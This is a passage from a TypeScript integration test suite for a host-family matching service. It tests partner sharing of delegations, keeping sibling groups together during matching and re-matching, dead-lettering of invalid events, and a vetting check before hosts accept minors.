      const guestB = guest('Jun', '1990-04-04', 'male');
      const d = await publishDelegation('Shared visit', [guestB], { startDate: '2027-08-20', endDate: '2027-08-24' });
      await as(t.otherCoordinator).get(`/delegations/${d}/guests`).expect(404);
      await kafka.produce(withPrefix(prefix, Topics.delegationEvents), [envelope('delegation.shared', d, { delegationId: d, partnerOrganisationId: orgB, sharedByUserId: coordinatorId })]);
      await eventually(async () => { await as(t.otherCoordinator).get(`/delegations/${d}/guests`).expect(200); }, { timeoutMs: 30000, intervalMs: 200 });
      const family = (await as(t.otherCoordinator).post('/families', {
        name: 'Partner family', address: '1 Partner Rd', ...TACOMA, bedrooms: 1, beds: 1, pets: [], smoking: false, languages: ['zh'], diets: [], interests: [], guestGender: 'any',
        availability: [{ from: '2027-08-01', to: '2027-09-01' }], timesHosted: 0, members: [{ name: 'Partner Host', dateOfBirth: '1970-01-01', relation: 'parent', gender: 'male' }],
      }).expect(201)).body;
      await as(t.otherCoordinator).put(`/delegations/${d}/matching-settings`, { venue: TACOMA }).expect(200);
      const run = (await as(t.otherCoordinator).post(`/delegations/${d}/matching-runs`).expect(201)).body;
      expect(run).toMatchObject({ placed: 1, familiesConsidered: 1 });
      expect(run.proposals[0].familyId).toBe(family.id);
      const { offerIds } = (await as(t.otherCoordinator).post(`/delegations/${d}/offers`, {}).expect(201)).body;
      expect((await as(t.otherCoordinator).get(`/offers/${offerIds[0]}`).expect(200)).body.familyName).toBe('Partner family');
      expect((await offerOf(d, guestB.memberId))).toMatchObject({ id: offerIds[0], familyId: family.id, status: 'offered' });
      const made = (await eventsOf(d)).find((e) => e.type === 'offer.made')!;
      expect(made.organisationId).toBe(orgB);
      await kafka.produce(withPrefix(prefix, Topics.delegationEvents), [envelope('delegation.unshared', d, { delegationId: d, partnerOrganisationId: orgB, unsharedByUserId: coordinatorId })]);
      await eventually(async () => { await as(t.otherCoordinator).get(`/delegations/${d}/guests`).expect(404); }, { timeoutMs: 30000, intervalMs: 200 });
    });
  });

  describe('together groups are placed whole or not at all, in the run and in the re-match', () => {
    const hostOf = { amber: randomUUID(), cedar: randomUUID(), dune: randomUUID() };
    const tok = {} as Record<keyof typeof hostOf, string>;
    const fid = {} as Record<keyof typeof hostOf, string>;

    beforeAll(async () => {
      for (const k of Object.keys(hostOf) as (keyof typeof hostOf)[]) tok[k] = await tokenFor({ organisationId: orgA, roles: ['host'], userId: hostOf[k] });
      // available only for these visits (the families above are not): Amber has one bed; Cedar (speaks Chinese,
      // nearest) and Dune (a little farther) have two each
      const amber = await registerFamily('Amber', hostOf.amber, { beds: 1, availability: [{ from: '2027-10-25', to: '2027-11-07' }] });
      const cedar = await registerFamily('Cedar', hostOf.cedar, { languages: ['en', 'zh'], availability: [{ from: '2027-11-15', to: '2027-12-01' }] });
      const dune = await registerFamily('Dune', hostOf.dune, { latitude: 47.30, longitude: -122.50, availability: [{ from: '2027-11-15', to: '2027-12-01' }] });
      for (const f of [amber, cedar, dune]) await vet(f);
      Object.assign(fid, { amber: amber.id, cedar: cedar.id, dune: dune.id });
    });

    it('two siblings and only one bed: neither is placed, both say why in words that name no health data', async () => {
      const sisters = [guest('Ada', '2012-03-03', 'female', { consent: true, allergies: ['peanuts'] }), guest('Bo', '2013-04-04', 'female', { consent: true })];
      const d = await publishDelegation('Sisters, one bed', sisters, { startDate: '2027-11-01', endDate: '2027-11-05' });
      await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { venue: TACOMA, groups: [{ kind: 'together', memberIds: sisters.map((x) => x.memberId) }] }).expect(200);
      const run = (await as(t.coordinator).post(`/delegations/${d}/matching-runs`).expect(201)).body;
      expect(run).toMatchObject({ guests: 2, placed: 0, unplaced: 2 });
      for (const u of run.unplacedGuests) {
        expect(u.explanation).toMatchObject({ kind: 'kept-together', decidingRule: null });
        expect(u.explanation.message).toMatch(/kept together with the other guest of their group .*no family meets the hard rules for all 2 of them with 2 free beds/);
        expect(u.explanation.message).not.toMatch(/peanut|allerg/i);
      }
      const unplaced = (await eventsOf(d)).filter((e) => e.type === 'guest.unplaced');
      expect(unplaced.map((e) => (e.payload as { memberId: string }).memberId).sort()).toEqual(sisters.map((x) => x.memberId).sort());
      for (const e of unplaced) expect(e.payload).toMatchObject({ rule: 'GROUP_TOGETHER', reason: expect.not.stringMatching(/peanut|allerg/i) });
      // by hand: one sister alone is no group rule broken yet; the other sent to another family splits the group
      await as(t.coordinator).post(`/delegations/${d}/assignments`, { memberId: sisters[0].memberId, familyId: fid.amber }).expect(201);
      const split = (await as(t.coordinator).post(`/delegations/${d}/assignments`, { memberId: sisters[1].memberId, familyId: fid.cedar }).expect(409)).body;
      expect(split.code).toBe('ASSIGNMENT.BREAKS_RULES');
      expect(split.details.brokenRules.map((r: { rule: string }) => r.rule)).toEqual(['AVAILABILITY', 'GROUP_TOGETHER']);
    });

    it('a family that accepted one sister and declines the other has declined the group: both move together', async () => {
      const sisters = [guest('Cai', '2012-05-05', 'female', { consent: true }), guest('Dai', '2013-06-06', 'female', { consent: true })];
      const [cai, dai] = sisters;
      const d = await publishDelegation('Sisters, re-matched', sisters, { startDate: '2027-11-20', endDate: '2027-11-25' });
      await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { venue: TACOMA, groups: [{ kind: 'together', memberIds: sisters.map((x) => x.memberId) }] }).expect(200);
      const run = (await as(t.coordinator).post(`/delegations/${d}/matching-runs`).expect(201)).body;
      expect(run.proposals.map((p: { familyId: string }) => p.familyId)).toEqual([fid.cedar, fid.cedar]);
      await as(t.coordinator).post(`/delegations/${d}/offers`, {}).expect(201);
      const caiOffer = (await offerOf(d, cai.memberId))!;
      const daiOffer = (await offerOf(d, dai.memberId))!;
      expect((await as(tok.cedar).post(`/offers/${caiOffer.id}/accept`).expect(200)).body.status).toBe('confirmed');
      const res = (await as(tok.cedar).post(`/offers/${daiOffer.id}/decline`, { reason: 'only room for one girl' }).expect(200)).body;
      expect(res).toMatchObject({ status: 'declined', rematch: { placed: 2, unplaced: 0 } });
      // the whole group moved to Dune; Cai's confirmed placement with Cedar was released with the group
      expect(await offerOf(d, cai.memberId)).toMatchObject({ familyId: fid.dune, status: 'offered', origin: 'rematch' });
      expect(await offerOf(d, dai.memberId)).toMatchObject({ familyId: fid.dune, status: 'offered', origin: 'rematch' });
      const [{ status }] = await db.query<{ status: string }>(`SELECT status FROM offer WHERE id = $1`, [caiOffer.id]);
      expect(status).toBe('withdrawn');
      const events = await eventsOf(d);
      expect(events.find((e) => e.type === 'placement.released')?.payload).toMatchObject({ offerId: caiOffer.id, familyId: fid.cedar, reason: 'moved-with-group' });
      expect(events.find((e) => e.type === 'offer.withdrawn')?.payload).toMatchObject({ offerId: caiOffer.id, kind: 'moved-by-rematch' });
      // Dune cannot keep the group either: both are unplaced, with the group's reason
      const caiNext = (await offerOf(d, cai.memberId))!;
      const again = (await as(tok.dune).post(`/offers/${caiNext.id}/decline`, { reason: 'away that week' }).expect(200)).body;
      expect(again.rematch).toMatchObject({ placed: 0, unplaced: 2 });
      expect(await offerOf(d, cai.memberId)).toBeNull();
      expect(await offerOf(d, dai.memberId)).toBeNull();
      const last = (await eventsOf(d)).filter((e) => e.type === 'guest.unplaced').slice(-2);
      expect(last.map((e) => (e.payload as { memberId: string }).memberId).sort()).toEqual(sisters.map((x) => x.memberId).sort());
      for (const e of last) expect(e.payload).toMatchObject({ rule: 'GROUP_TOGETHER', reason: expect.stringMatching(/kept together with the other guest of their group .*all 2 families that could take all 2 of them have declined one of them/) });
    });
  });

  describe('bad events', () => {
    it('an invalid matching profile is dead-lettered to the restricted dead-letter topic with its origin, and the next valid one is applied', async () => {
      const p = guest('Valid', '1990-01-01', 'female');
      const bad = envelope('participant.matching-profile-changed', p.participantId, { participantId: p.participantId, givenName: 'Bad', familyName: 'Lin', dateOfBirth: 'yesterday',
        gender: 'female', languages: [], nationality: 'CN', diet: [], allergies: [], nonSmokingRequired: false, guardianConsentOnFile: false });
      await kafka.produce(withPrefix(prefix, Topics.participantMatchingEvents), [bad, { key: p.participantId, value: '{not json' }, profile(p)]);
      const dlq = `${prefix}host-matching.roster.restricted.dlq`; // a restricted topic's dead letters stay restricted
      const dead = await eventually(async () => {
        const msgs = (await kafka.readAll(dlq)).filter((m) => m.key === p.participantId);
        expect(msgs).toHaveLength(2);
        return msgs;
      }, { timeoutMs: 30000, intervalMs: 250 });
      expect(dead.map((m) => m.headers?.['x-original-topic']?.toString())).toEqual([withPrefix(prefix, Topics.participantMatchingEvents), withPrefix(prefix, Topics.participantMatchingEvents)]);
      await eventually(async () => {
        const rows = await db.query<{ given_name: string }>(`SELECT given_name FROM hm_participant WHERE id = $1`, [p.participantId]);
        expect(rows).toEqual([{ given_name: 'Valid' }]);
      }, { timeoutMs: 30000, intervalMs: 200 });
    });
  });

  describe('the vetting gate when a host accepts', () => {
    it('a host who changed the household after the offer may not accept a minor until a youth manager confirmed it and the new adult is checked', async () => {
      const teen = guest('Yan', '2012-06-06', 'female', { consent: true });
      const d = await publishDelegation('Late summer exchange', [teen], { startDate: '2027-08-20', endDate: '2027-08-25' });
      await as(t.coordinator).put(`/delegations/${d}/matching-settings`, { venue: TACOMA }).expect(200);
      await as(t.coordinator).post(`/delegations/${d}/matching-runs`).expect(201);
      await as(t.coordinator).post(`/delegations/${d}/offers`, {}).expect(201);
      const offer = (await offerOf(d, teen.memberId))!;
      const key = (Object.keys(fam) as (keyof typeof hosts)[]).find((k) => fam[k] === offer.familyId)!;
      const members = (await as(t[key]).get(`/families/${offer.familyId}`).expect(200)).body.members as object[];

      // the host adds an adult nobody has checked: the family is no longer eligible, and the accept says why
      const changed = (await as(t[key]).patch(`/families/${offer.familyId}`, { members: [...members, { name: 'New lodger', dateOfBirth: '1990-01-01', relation: 'lodger', gender: 'male' }] }).expect(200)).body;
      const refused = await as(t[key]).post(`/offers/${offer.id}/accept`).expect(409);
      expect(refused.body).toMatchObject({ code: 'OFFER.FAMILY_NOT_VETTED_FOR_MINORS', details: { reasons: expect.arrayContaining(['HOUSEHOLD_REVIEW_PENDING', 'CHECK_MISSING']) } });
      expect((await as(t.coordinator).get(`/offers/${offer.id}`).expect(200)).body.status).toBe('offered');

      // reviewed and checked: the same offer can be accepted (and is confirmed: consent is on file)
      const lodger = changed.members.find((m: { name: string }) => m.name === 'New lodger');
      const vetting = (await as(t.youth).get(`/families/${offer.familyId}/vetting`).expect(200)).body;
      await as(t.youth).post(`/families/${offer.familyId}/household-review`, { lastChangeId: vetting.householdReview.lastPendingChangeId }).expect(201);
      await as(t.youth).post(`/families/${offer.familyId}/background-checks`, { memberId: lodger.id, result: 'clear', checkedOn: addDays(today, -1), expiresOn: addDays(today, 700) }).expect(201);
      expect((await as(t[key]).post(`/offers/${offer.id}/accept`).expect(200)).body).toMatchObject({ status: 'confirmed' });
    });
  });
});
